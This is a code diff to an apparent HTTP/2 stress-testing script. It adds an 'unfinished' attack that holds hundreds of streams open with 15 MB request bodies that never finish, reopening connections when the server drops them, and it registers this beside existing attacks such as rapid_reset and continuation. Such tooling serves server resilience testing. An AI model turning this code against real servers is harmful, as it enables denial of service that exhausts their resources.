@@ -67,6 +67,44 @@ def empty_data(port, seconds, _):
     return repeat(port, seconds, lambda i: http2.frame(http2.DATA, 0, 1), connection)
 
 
+def unfinished(port, seconds, _, connections=8, streams=40, size=15 << 20):
+    """Requests of 15 MB whose last byte never comes, 40 on each of eight connections; begun anew if the server ends them."""
+    begun = message_of(16 << 20)  # more than is sent
+    bodies = begun + bytes(size - len(begun))
+    senders, left, sent_streams, next_stream = [], [], 0, []
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        while len(senders) < connections:
+            senders.append(http2.Sender(port))
+            left.append({})
+            next_stream.append(1)
+        is_idle = True
+        for at, sender in enumerate(senders):
+            sender.listen()
+            if not sender.is_open:
+                senders[at], left[at], next_stream[at] = http2.Sender(port), {}, 1
+                continue
+            for stream in [one for one in left[at] if one not in sender.of_stream]:
+                del left[at][stream]
+            while len(left[at]) < streams:
+                sender.begin(next_stream[at], PLAN_ROUTE)
+                left[at][next_stream[at]] = 0
+                next_stream[at] += 2
+                sent_streams += 1
+            for stream, sent in left[at].items():
+                gone = sender.send(stream, bodies[sent:sent + 16384])
+                left[at][stream] += gone
+                is_idle = is_idle and gone == 0
+        if is_idle:
+            time.sleep(0.002)
+    return sent_streams
+
+
+def message_of(size):
+    """The beginning of a message of so many bytes."""
+    return b"\x00" + struct.pack(">I", size - 5)
+
+
 def settings(port, seconds, _):
     return repeat(port, seconds, lambda i: http2.settings(initial_window_size=65535 - i % 2))
 
@@ -115,7 +153,7 @@ def descriptors(port, seconds, _, connections=600):
 
 
 ATTACKS = {attack.__name__: attack for attack in
-           (window_zero, rapid_reset, empty_data, settings, ping, continuation, slow_preface, descriptors)}
+           (window_zero, rapid_reset, empty_data, unfinished, settings, ping, continuation, slow_preface, descriptors)}
 
 if __name__ == "__main__":
     print(ATTACKS[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3]), sys.stdin.buffer.read()))
